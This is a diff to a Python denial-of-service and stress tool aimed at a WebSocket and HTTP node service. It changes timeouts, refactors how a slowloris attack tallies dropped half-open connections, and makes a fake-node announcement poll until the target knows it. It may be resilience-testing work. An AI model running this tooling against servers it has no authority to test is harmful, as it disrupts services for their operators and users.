@@ -60,6 +60,7 @@ _GUID = b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11"  # RFC 6455 §1.3
 _GOODBYE = b"\x88\x02\x03\xe8"  # a WebSocket close of code 1000
 _RECEIVE = 1 << 16
 _PATIENCE = 5.0  # seconds for the victim to answer
+_CALL = 60.0  # and to call us
 TEXT, CLOSE, FIN, DEFLATED = 1, 8, 0x80, 0x40  # RFC 6455 §5.2, RFC 7692 §6
 
 
@@ -734,6 +735,7 @@ def slowloris(foe: Foe) -> None:
         for place, half in enumerate((_half_head, _half_upgrade, _half_greeting)):
             own = Foe(foe.urls, f"{foe.source.rpartition('.')[0]}.{100 + place}", foe.ended, foe.crew)
             for _ in range(HALVES):
+                _note_ends(foe, held, 0.0)
                 foe.tally.sent += 1
                 begun = time.monotonic()
                 try:
@@ -751,14 +753,18 @@ def slowloris(foe: Foe) -> None:
 def _wait_for_ends(foe: Foe, held: dict[int, tuple[Pipe, float]]) -> None:
     last = time.monotonic() + DEADLINE + _PATIENCE
     while held and time.monotonic() < last:
-        for number in select.select(list(held), [], [], 0.1)[0]:
-            pipe, begun = held[number]
-            if _is_over(pipe.sock):
-                age = time.monotonic() - begun
-                foe.tally.cuts.append(max(0.0, age - DEADLINE))
-                foe.tally.codes["refused" if age < DEADLINE / 2 else "too slow"] += 1
-                del held[number]
+        _note_ends(foe, held, 0.1)
     foe.tally.codes["never closed"] += len(held)
+
+
+def _note_ends(foe: Foe, held: dict[int, tuple[Pipe, float]], seconds: float) -> None:
+    for number in select.select(list(held), [], [], seconds)[0]:
+        pipe, begun = held[number]
+        if _is_over(pipe.sock):
+            age = time.monotonic() - begun
+            foe.tally.cuts.append(max(0.0, age - DEADLINE))
+            foe.tally.codes["refused" if age < DEADLINE / 2 else "too slow"] += 1
+            del held[number]
 
 
 def _half_head(caller: Caller) -> None:
@@ -793,7 +799,7 @@ def _called(answer: Callable[[Caller], None]) -> Attack:
             key = Key()
             _announce(foe, key, f"http://{foe.source}:{listening.getsockname()[1]}")
             listening.settimeout(0.1)
-            patience = time.monotonic() + _PATIENCE
+            patience = time.monotonic() + _CALL
             while not foe.over and time.monotonic() < patience:
                 with contextlib.suppress(OSError, Gone):
                     sock, _ = listening.accept()
@@ -810,7 +816,14 @@ def _announce(foe: Foe, key: Key, url: str) -> None:
     line = key.record("announce", endpoints=[url], roles=["full"])
     with foe.call(key) as caller:
         caller.throw(caller.push([line]))
-        time.sleep(0.2)
+        while not foe.over and not _is_known(foe, key):
+            time.sleep(0.05)
+
+
+def _is_known(foe: Foe, key: Key) -> bool:
+    with Pipe(foe, foe.connect()) as pipe:
+        pipe.sock.sendall(request(foe.urls[0], f"/v1/nodes/{key.did}"))
+        return pipe.read_head().startswith("HTTP/1.1 200")
 
 
 def _mirror(caller: Caller) -> None:
@@ -989,7 +1002,7 @@ def main() -> int:
     siege = Siege(given.attack, given.urls, given.source, given.threads)
     siege.start()
     until = time.monotonic() + float(given.seconds.removesuffix("s"))
-    begun = time.monotonic() + _PATIENCE / 2  # who was cut off before may not get in again now
+    begun = time.monotonic() + 2 * _PATIENCE  # who was cut off before may not get in again now
     while not siege.tally().sent and time.monotonic() < min(begun, until):
         time.sleep(0.01)
     print("attacking", flush=True)
